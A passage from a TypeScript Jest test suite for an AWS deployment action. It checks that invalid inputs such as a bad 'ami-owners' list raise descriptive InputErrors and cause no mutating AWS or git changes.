    act: updateAppStackInputs({ 'ami-owners': 'self,amazon' }),
    said: { what: 'input "ami-owners" = "self,amazon": must be a comma-separated list of 12-digit AWS account IDs and self', where: 'Invalid action inputs', fix: 'owner aliases such as amazon are not accepted, name the account' },
  },
};

describe('bad inputs (unit): InputError with what, where and fix; no mutating AWS call', () => {
  const elsewhere = new Set(Object.values(UNIT_BAD_INPUTS_ELSEWHERE).flat());
  const cases = casesOf(BAD_INPUTS, 'unit').filter((c) => !elsewhere.has(c.id));
  let scene: Scene;
  let repo: GitopsRepo | undefined;

  beforeEach(() => {
    resetAwsMocks();
    const clock = new VirtualClock();
    const world = new AwsWorld(clock, devStackParameters(OLD_AMI)).withImages(OLD_AMI, NEW_AMI).install(mocks);
    // The build side would start builds too: a bad input that reached it would show up as a mutating call.
    mocks.imageBuilder.on(StartImagePipelineExecutionCommand).resolves({ imageBuildVersionArn: IMAGE_ARN });
    const scratch = mkdtempSync(join(tmpdir(), 'reliability-bad-input-'));
    repo = undefined;
    scene = { world, clock, scratch, repo: () => (repo ??= createGitopsRepo()) };
  });
  afterEach(() => {
    rmSync(scene.scratch, { recursive: true, force: true });
    repo?.remove();
  });

  it('implements every unit row of the catalogue (except those UNIT_BAD_INPUTS_ELSEWHERE names), and only those', () => {
    expect(Object.keys(IMPLEMENTATIONS).sort()).toEqual(cases.map((c) => c.id).sort());
    expect(BAD_INPUTS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(cases)('$id $name', async ({ id }) => {
    const { arrange, act, said, location } = IMPLEMENTATIONS[id];
    arrange?.(scene);
    const originMain = repo?.origin.git('rev-parse', 'main') ?? repo?.seed.git('rev-parse', 'HEAD');
    const error = await (async () => act(scene))().then(
      () => undefined,
      (caught: unknown) => caught,
    );

    expect(error).toBeInstanceOf(InputError);
    const message = (error as InputError).message;
    for (const part of [said.what, said.where, said.fix]) {
      if (part instanceof RegExp) expect(message).toMatch(part);
      else expect(message).toContain(typeof part === 'function' ? part(scene) : part);
    }
    if (location) {
      const annotated = [(error as InputError).location, ...(error as InputError).annotations.map((a) => a.location)].filter(Boolean);
      expect(annotated).toContainEqual(expect.objectContaining({ file: location.file(scene), ...(location.line ? { line: location.line } : {}) }));
    }
    expectNoMutatingCalls(mocks);
    expect(scene.world.pendingChangeSets()).toEqual([]);
    if (repo) {
      // Nothing written to git either: a clean working tree, and origin's main still at the merge.
      expect(repo.workspace.git('status', '--porcelain')).toBe('');
      expect(repo.origin.git('rev-parse', 'main')).toBe(originMain ?? repo.seed.git('rev-parse', 'HEAD'));
    }
  });

  it('the world would have accepted changes: a good file deploys through the same path (so "no mutation" is not vacuous)', async () => {
    await deploy(scene, parametersFile(scene));
    expect(receivedCommands(mocks)).toEqual(expect.arrayContaining(['cloudFormation:CreateChangeSet', 'cloudFormation:ExecuteChangeSet']));
    expect(scene.world.runningAmi()).toBe(NEW_AMI);
  });
});
